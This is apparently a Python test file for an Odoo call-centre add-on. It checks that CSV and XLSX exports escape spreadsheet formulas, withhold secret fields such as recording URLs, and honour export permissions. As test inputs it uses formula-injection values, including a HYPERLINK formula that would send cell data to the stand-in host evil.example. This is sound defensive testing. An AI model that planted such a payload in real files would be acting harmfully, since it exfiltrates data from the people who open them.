import csv
import io
import json

import openpyxl

from odoo import http
from odoo.tests import HttpCase, tagged

from .common import CcpCase

SECRET_FIELDS = {
    "token_digest",
    "header_digest",
    "recording_url",
    "recording_file",
    "recording_tries",
    "dialled",
    "noted_lines",
    "card_message_ids",
}
COLUMNS = ("start_date", "customer_name", "customer_number", "result", "talk_seconds")


@tagged("post_install", "-at_install")
class TestExport(CcpCase, HttpCase):
    """The history as a file, through Odoo's own export; no secret comes along."""

    def setUp(self):
        super().setUp()
        self.manager.group_ids |= self.env.ref("base.group_allow_export")
        self.call = self.make_call(
            live=False,
            customer_name="=1+1",
            recording_url="https://rec.airtel.in/r?token=hidden-value",
        )
        self.report(self.call, self.cdr(Recording="https://rec.airtel.in/r?token=hidden-value"))
        self.env.flush_all()
        self.authenticate("ccp_manager", "ccp_manager")

    def export(self, kind, columns=COLUMNS, records=None, groupby=()):
        records = self.call if records is None else records
        parameters = {
            "model": records._name,
            "fields": [{"name": name, "label": name, "type": "char"} for name in columns],
            "ids": records.ids,
            "domain": [],
            "groupby": groupby,
            "import_compat": False,
        }
        return self.url_open(
            f"/web/export/{kind}",
            data={
                "data": json.dumps(parameters),
                "token": "x",
                "csrf_token": http.Request.csrf_token(self),
            },
        )

    def test_csv(self):
        answer = self.export("csv")
        self.assertEqual(answer.status_code, 200)
        rows = list(csv.reader(io.StringIO(answer.text)))
        self.assertEqual(len(rows), 2)
        self.assertEqual(rows[1][1], "'=1+1", "no formula")
        self.assertNotIn("hidden-value", answer.text)

    def test_xlsx(self):
        answer = self.export("xlsx")
        self.assertEqual(answer.status_code, 200)
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        cell = sheet["B2"]
        self.assertEqual((cell.value, cell.data_type), ("'=1+1", "s"), "no formula")

    def cells(self, answer):
        """Return value and type of all cells of a workbook that have one."""
        self.assertEqual(answer.status_code, 200)
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        return [(cell.value, cell.data_type) for row in sheet.rows for cell in row if cell.value]

    def test_titles_of_groups(self):
        name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        contact = self.env["res.partner"].create({"name": name})
        self.call.write({"customer_name": name, "partner_id": contact.id, "note": "{=1+1}"})
        self.env.flush_all()
        columns = ("customer_name", "note", "start_date")
        for groupby in (["customer_name"], ["partner_id"], ["result", "customer_name"]):
            with self.subTest(groupby=groupby):
                found = self.cells(self.export("xlsx", columns, groupby=groupby))
                self.assertNotIn("f", [kind for _value, kind in found], "a formula")
                self.assertIn(("'{=1+1}", "s"), found, "no formula of many cells")
                titles = [value for value, _kind in found if "HYPERLINK" in str(value)]
                self.assertEqual(len(titles), 2, "a title and a cell")

    def test_every_model_of_ours(self):
        """Another one's list is exported by the same route, and holds words from outside too."""
        self.authenticate("rep", "rep")
        self.rep.group_ids |= self.env.ref("base.group_allow_export")
        item = self.env["ccp.call.list.item"].create(
            {
                "user_id": self.rep.id,
                "res_model": "res.partner",
                "res_id": self.partner.id,
                "customer_name": "=1+1",
            }
        )
        self.env.flush_all()
        for kind in ("csv", "xlsx"):
            answer = self.export(kind, ("customer_name", "state"), item)
            if kind == "csv":
                self.assertEqual(list(csv.reader(io.StringIO(answer.text)))[1][0], "'=1+1")
            else:
                self.assertIn(("'=1+1", "s"), self.cells(answer))
        answer = self.export("xlsx", ("state",), item, ["customer_name"])
        self.assertIn(("'=1+1 (1)", "s"), self.cells(answer))

    def test_secrets_are_not_offered(self):
        answer = self.url_open(
            "/web/export/get_fields",
            data=json.dumps(
                {"params": {"model": "ccp.call", "domain": [], "import_compat": False}}
            ),
            headers={"Content-Type": "application/json"},
        ).json()["result"]
        offered = {field["id"] for field in answer}
        self.assertIn("customer_number", offered)
        self.assertFalse(offered & SECRET_FIELDS)

    def test_secrets_are_not_given(self):
        for name in (*SECRET_FIELDS, "event_ids/payload"):
            for kind in ("csv", "xlsx"):
                with self.subTest(field=name, kind=kind), self.allow_errors():
                    answer = self.export(kind, ("start_date", name))
                    self.assertNotEqual(answer.status_code, 200)
                    self.assertNotIn(b"hidden-value", answer.content)

    def allow_errors(self):
        """Let Odoo's log say why an export was refused."""
        return self.assertLogs("odoo.addons.web.controllers.export", level="ERROR")

    def test_who_may_not_export(self):
        self.manager.group_ids -= self.env.ref("base.group_allow_export")
        self.env.flush_all()
        with self.allow_errors():
            self.assertNotEqual(self.export("csv").status_code, 200)
